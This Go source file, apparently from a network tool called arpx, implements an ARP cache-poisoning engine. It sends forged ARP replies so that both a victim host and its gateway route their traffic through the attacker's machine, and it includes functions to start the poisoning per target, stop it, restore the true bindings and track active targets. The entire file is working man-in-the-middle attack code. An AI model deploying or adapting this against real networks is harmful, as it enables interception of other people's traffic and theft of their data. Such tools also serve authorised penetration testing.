package engine

import (
	"errors"
	"net"

	"github.com/projectdiscovery/arpx/pkg/arpframe"
	"github.com/projectdiscovery/gologger"
)

// Target is one poisoning victim. Stopped targets are kept inactive
// rather than deleted so the history stays auditable; only active
// records count toward IsAnyPoisoningActive.
type Target struct {
	IP       string
	MAC      net.HardwareAddr
	IsActive bool
}

// StartPoisoning begins bidirectional cache poisoning against targetIP:
// the victim is told the gateway's IP lives at this engine's MAC and
// the gateway is told the same about the victim's IP. The poisoning
// burst is sent once per call; ARP caches expire, so redirection decays
// unless poisoning is restarted. Calling this for an already-active
// target is a no-op success. Both spoofed replies must transmit for the
// call to succeed; on partial failure the target stays active and the
// idempotent retry is this same method.
func (e *Engine) StartPoisoning(targetIP, targetMAC string) error {
	if !e.initialized {
		e.setError("engine not initialized")
		return ErrNotInitialized
	}
	if e.injector == nil {
		e.setError("no open capture handle for poisoning")
		return ErrCaptureUnavailable
	}

	victimIP, err := arpframe.ParseIPv4(targetIP)
	if err != nil {
		e.setError("invalid target IP address: %s", targetIP)
		return err
	}
	victimMAC, err := arpframe.ParseMAC(targetMAC)
	if err != nil {
		e.setError("invalid target MAC address: %s", targetMAC)
		return err
	}

	if target := e.findTarget(targetIP); target != nil && target.IsActive {
		gologger.Verbose().Msgf("poisoning already active for %s", targetIP)
		return nil
	}

	// opportunistic: a gateway MAC learned late still benefits this run
	if !e.topo.HasGatewayMAC() {
		e.RefreshGatewayMAC()
	}

	e.upsertTarget(targetIP, victimMAC)

	// victim learns: gateway IP -> our MAC
	victimErr := e.PoisonCache(victimIP, victimMAC, e.topo.GatewayIP, e.topo.InterfaceMAC)
	// gateway learns: victim IP -> our MAC
	gatewayErr := e.PoisonCache(e.topo.GatewayIP, e.gatewayMAC(), victimIP, e.topo.InterfaceMAC)

	if err := errors.Join(victimErr, gatewayErr); err != nil {
		e.setError("poisoning burst for %s incomplete: %s", targetIP, err)
		return err
	}

	gologger.Info().Msgf("poisoning active: %s <-> %s via %s", targetIP, e.topo.GatewayIP, e.topo.InterfaceMAC)
	return nil
}

// StopPoisoning deactivates the target and transmits two corrective
// replies restoring the true bindings so connectivity resumes without
// waiting for cache timeout. It returns false when no matching active
// target exists; the global any-active state is untouched in that case.
func (e *Engine) StopPoisoning(targetIP string) (bool, error) {
	if !e.initialized {
		e.setError("engine not initialized")
		return false, ErrNotInitialized
	}

	target := e.findTarget(targetIP)
	if target == nil || !target.IsActive {
		return false, nil
	}
	target.IsActive = false

	victimIP, err := arpframe.ParseIPv4(target.IP)
	if err != nil {
		return true, err
	}

	// victim relearns the gateway's real MAC, the gateway the victim's
	victimErr := e.PoisonCache(victimIP, target.MAC, e.topo.GatewayIP, e.gatewayMAC())
	gatewayErr := e.PoisonCache(e.topo.GatewayIP, e.gatewayMAC(), victimIP, target.MAC)

	if err := errors.Join(victimErr, gatewayErr); err != nil {
		e.setError("restoration burst for %s incomplete: %s", targetIP, err)
		return true, err
	}

	gologger.Info().Msgf("poisoning stopped for %s, bindings restored", targetIP)
	return true, nil
}

// PoisonCache is the low-level primitive: one unsolicited ARP reply to
// victimMAC claiming claimedMAC owns spoofedIP. The attempt is timed
// and recorded whatever the outcome.
func (e *Engine) PoisonCache(victimIP net.IP, victimMAC net.HardwareAddr, spoofedIP net.IP, claimedMAC net.HardwareAddr) error {
	frame, err := arpframe.EncodeReply(claimedMAC, spoofedIP, victimMAC, victimIP)
	if err != nil {
		e.setError("invalid parameters for ARP reply: %s", err)
		return err
	}
	return e.transmit(frame)
}

// IsAnyPoisoningActive reports whether at least one target is active.
func (e *Engine) IsAnyPoisoningActive() bool {
	for _, target := range e.targets {
		if target.IsActive {
			return true
		}
	}
	return false
}

// Targets returns a copy of the target records, inactive ones included.
func (e *Engine) Targets() []Target {
	out := make([]Target, 0, len(e.targets))
	for _, target := range e.targets {
		out = append(out, *target)
	}
	return out
}

// upsertTarget reactivates an existing record for ip or appends a new
// one, keeping exactly one record per IP.
func (e *Engine) upsertTarget(ip string, mac net.HardwareAddr) {
	if target := e.findTarget(ip); target != nil {
		target.MAC = mac
		target.IsActive = true
		return
	}
	e.targets = append(e.targets, &Target{IP: ip, MAC: mac, IsActive: true})
}

func (e *Engine) findTarget(ip string) *Target {
	for _, target := range e.targets {
		if target.IP == ip {
			return target
		}
	}
	return nil
}

// gatewayMAC returns the gateway's MAC or the all-zero placeholder when
// unresolved.
func (e *Engine) gatewayMAC() net.HardwareAddr {
	if e.topo != nil && e.topo.HasGatewayMAC() {
		return e.topo.GatewayMAC
	}
	return arpframe.ZeroMAC
}
